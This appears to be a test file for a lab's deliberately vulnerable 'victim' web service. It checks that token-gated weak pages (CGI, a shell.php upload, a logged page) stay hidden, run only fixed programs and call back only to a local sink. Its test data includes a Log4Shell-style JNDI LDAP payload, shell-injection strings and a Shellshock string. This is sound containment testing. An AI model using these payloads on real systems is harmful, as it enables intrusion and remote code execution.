import { createHmac } from 'node:crypto';
import { readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { expect } from 'chai';
import fc from 'fast-check';
import {
  newNonce,
  newToken,
  PROOF_PATH,
  SINK_PORT,
  sinkAddress,
  WEAK_HEADER,
} from '../../../scenarios/victim/weak-access.ts';
import { WEAK_PATHS } from '../../../scenarios/victim/weak-paths.ts';
import { WEAK_PROGRAMS } from '../../../scenarios/victim/weak-programs.ts';
import { temporaryFolder } from '../../support/temporary.ts';
import { ask, type Reply } from '../support/service.ts';
import { SpawnRecorder } from '../support/spawn-recorder.ts';
import { openTestVictim, type TestVictim } from '../support/test-victim.ts';

const pages: readonly (readonly [method: string, path: string])[] = [
  ['GET', WEAK_PATHS.cgi],
  ['POST', WEAK_PATHS.form],
  ['GET', WEAK_PATHS.logged],
  ['GET', WEAK_PATHS.fetch],
  ['PUT', `${WEAK_PATHS.uploads}/shell.php`],
  ['GET', `${WEAK_PATHS.uploads}/shell.php`],
];

describe("the victim's weak pages", () => {
  const recorder = new SpawnRecorder();
  let folder: string;
  let victim: TestVictim;
  let token = '';

  // Before its folder goes.
  after(async () => {
    recorder.stop();
    await victim.close(0);
    expect(readdirSync(folder)).to.deep.equal([]);
  });
  const newFolder = temporaryFolder();

  before(async () => {
    folder = newFolder();
    victim = await openTestVictim(folder, true);
    token = victim.own.weak?.token ?? '';
    recorder.start();
  });
  beforeEach(() => {
    recorder.spawned.length = 0;
    victim.lines.length = 0;
  });

  const weakly = (method: string, path: string, more: object = {}, body?: string): Promise<Reply> =>
    ask(victim.own.url + path, {
      method,
      headers: { [WEAK_HEADER]: token, ...more },
      ...(body !== undefined && { body }),
    });

  it('are not there without the switch, with whatever token', async () => {
    const ordinary = await openTestVictim(folder, false);
    try {
      expect(ordinary.own.weak).to.equal(undefined);
      for (const [method, path] of [...pages, ['GET', `${PROOF_PATH}?nonce=${newNonce()}`] as const])
        for (const headers of [{}, { [WEAK_HEADER]: token }, { [WEAK_HEADER]: '' }])
          expect((await ask(ordinary.own.url + path, { method, headers })).status, path).to.equal(404);
    } finally {
      await ordinary.close(0);
    }
    expect(recorder.spawned).to.deep.equal([]);
  });

  it('are as any page that there is not to who has no token', async () => {
    const nowhere = await ask(`${victim.own.url}/nowhere`);
    for (const [method, path] of pages)
      for (const headers of [
        {},
        { [WEAK_HEADER]: '' },
        { [WEAK_HEADER]: newToken() },
        { [WEAK_HEADER]: token.slice(0, -1) },
        { [WEAK_HEADER]: `${token}, ${token}` },
        { [WEAK_HEADER]: [token, token] },
        { Authorization: `Bearer ${token}` },
        { Cookie: `${WEAK_HEADER}=${token}` },
      ]) {
        const reply = await ask(`${victim.own.url}${path}?${WEAK_HEADER}=${token}`, { method, headers });
        expect(reply.status, path).to.equal(404);
        expect(reply.body.replaceAll(path, '/nowhere').replace(`${method} `, 'GET ')).to.equal(nowhere.body);
      }
    expect(recorder.spawned).to.deep.equal([]);
    expect(readdirSync(folder)).to.deep.equal([]);
  });

  it('prove to a scenario that they are its own, without telling the token', async () => {
    const nonce = newNonce();
    const { body } = await ask(`${victim.own.url}${PROOF_PATH}?nonce=${nonce}`);
    expect(body).to.equal(createHmac('sha256', token).update(`weak pages ${nonce}`).digest('hex'));
    for (const wrong of [
      '',
      nonce.slice(1),
      `${nonce}0`,
      nonce.toUpperCase().replace(/^./, 'G'),
      `${nonce}&nonce=${nonce}`,
    ])
      expect((await ask(`${victim.own.url}${PROOF_PATH}?nonce=${wrong}`)).status, wrong).to.equal(404);
    expect(victim.lines.join()).not.to.contain(token);
  });

  it('run a shell when they are used, and of an upload only when it is there', async () => {
    const file = `${WEAK_PATHS.uploads}/shell.php`;
    expect((await weakly('GET', file)).status).to.equal(404);
    expect((await weakly('PUT', file, {}, '<?php a text')).status).to.equal(201);
    expect(readdirSync(victim.own.weak?.uploads ?? '')).to.deep.equal(['0']);
    for (const [method, path] of [
      ['GET', `${file}?cmd=reboot`],
      ['GET', WEAK_PATHS.cgi],
      ['POST', WEAK_PATHS.form],
    ] as const)
      expect((await weakly(method, path)).body, path).to.match(/^uid=/);
    expect(recorder.spawned.map(({ args }) => args)).to.deep.equal(
      Array(3).fill(['sh', ...WEAK_PROGRAMS.shell.args]),
    );
    // As the scenario does.
    rmSync(victim.own.weak?.uploads ?? '', { recursive: true });
    expect((await weakly('GET', file)).status).to.equal(404);
  });

  it('take no large upload, nor one that would be', async () => {
    const file = `${WEAK_PATHS.uploads}/large`;
    expect((await weakly('PUT', file, {}, 'x'.repeat(64 * 1024 + 1))).status).to.equal(413);
    expect((await weakly('PUT', file, { 'Content-Encoding': 'gzip' }, 'x')).status).to.equal(415);
    expect(readdirSync(folder)).to.deep.equal([]);
  });

  it('call back to the sink alone, whatever a request says, and run nothing where none is', async () => {
    const headers = { 'X-Api-Version': '\u0024{jndi:ldap://198.51.100.7:1389/a}' };
    expect((await weakly('GET', WEAK_PATHS.logged, headers)).status).to.equal(502);
    expect(recorder.spawned).to.deep.equal([]);
    const heard: string[] = [];
    const sink = createServer((socket) =>
      socket.once('data', (bytes) => {
        heard.push(bytes.toString('hex'));
        socket.end('x');
      }),
    );
    await new Promise<void>((resolve) => sink.listen(SINK_PORT, sinkAddress(token), resolve));
    expect((await weakly('GET', WEAK_PATHS.logged, headers)).status).to.equal(200);
    sink.close();
    expect(heard).to.deep.equal(['300c020101600702010304008000']);
    expect(recorder.spawned).to.have.length(1);
  });

  it('run no more at a time than they may', async () => {
    const replies = await Promise.all(Array.from({ length: 60 }, () => weakly('GET', WEAK_PATHS.cgi)));
    const statuses = new Set(replies.map(({ status }) => status));
    expect(statuses).to.include(200);
    for (const status of statuses) expect(status).to.be.oneOf([200, 503]);
    expect(recorder.spawned.length).to.equal(replies.filter(({ status }) => status === 200).length);
  });

  it('start nothing but their fixed programs, with nothing of a request in them', async () => {
    const word = fc.oneof(
      fc.string({ unit: 'grapheme-ascii', maxLength: 40 }),
      fc.constantFrom(
        ';id',
        '$(reboot)',
        '`id`',
        '../../bin/sh',
        '() { :; }; id',
        '%{(#a=1)}',
        '\u0024{jndi:ldap://192.0.2.1/a}',
        '--help',
        '-c',
      ),
    );
    const marked = word.map((text) => `KVMARK${text}`);
    const fixed = new Set(
      Object.values(WEAK_PROGRAMS).map(({ file, args }) => JSON.stringify([file, ...args])),
    );
    const request = fc.record({
      page: fc.constantFrom(...pages),
      other: fc.option(marked, { freq: 3 }),
      query: fc.dictionary(marked, marked, { maxKeys: 3 }),
      headers: fc.dictionary(
        fc.constantFrom(
          'user-agent',
          'content-type',
          'x-api-version',
          'referer',
          'cookie',
          'path',
          'x-forwarded-for',
        ),
        marked.map((text) => text.replaceAll(/[^\x20-\x7e]/g, '').trim()),
      ),
      body: fc.option(marked),
    });
    await fc.assert(
      fc.asyncProperty(request, async ({ page: [method, path], other, query, headers, body }) => {
        const place = other === null ? path : `${path}/${encodeURIComponent(other)}`;
        await weakly(method, `${place}?${new URLSearchParams(query)}`, headers, body ?? undefined);
        for (const { args, envPairs, cwd, stdio } of recorder.spawned) {
          expect(fixed).to.include(JSON.stringify(args));
          expect(envPairs).to.deep.equal([`PATH=${process.env['PATH']}`]);
          expect(cwd).to.equal('/');
          expect(JSON.stringify(stdio)).to.equal('"ignore"');
          expect(JSON.stringify([args, envPairs])).not.to.contain('KVMARK');
        }
      }),
      { numRuns: 300 },
    );
    const started = new Set(recorder.spawned.map(({ args }) => JSON.stringify(args)));
    expect(started).to.deep.equal(fixed);
  });
});
